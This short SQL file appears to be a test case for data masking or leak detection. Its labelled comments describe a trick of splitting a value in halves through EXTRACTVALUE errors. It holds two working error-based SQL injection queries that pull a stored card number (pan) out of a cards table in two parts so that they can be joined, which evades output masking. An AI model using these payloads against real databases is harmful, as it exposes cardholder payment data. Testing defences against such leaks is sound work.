-- trick: halves in errors of EXTRACTVALUE
-- expect: masked
-- unlabelled: out-of-reach
-- decode: joined

select extractvalue(1, concat('~', (select substr(pan, 1, 8) from cards where id = 1)))

select extractvalue(1, concat('~', (select substr(pan, 9) from cards where id = 1)))
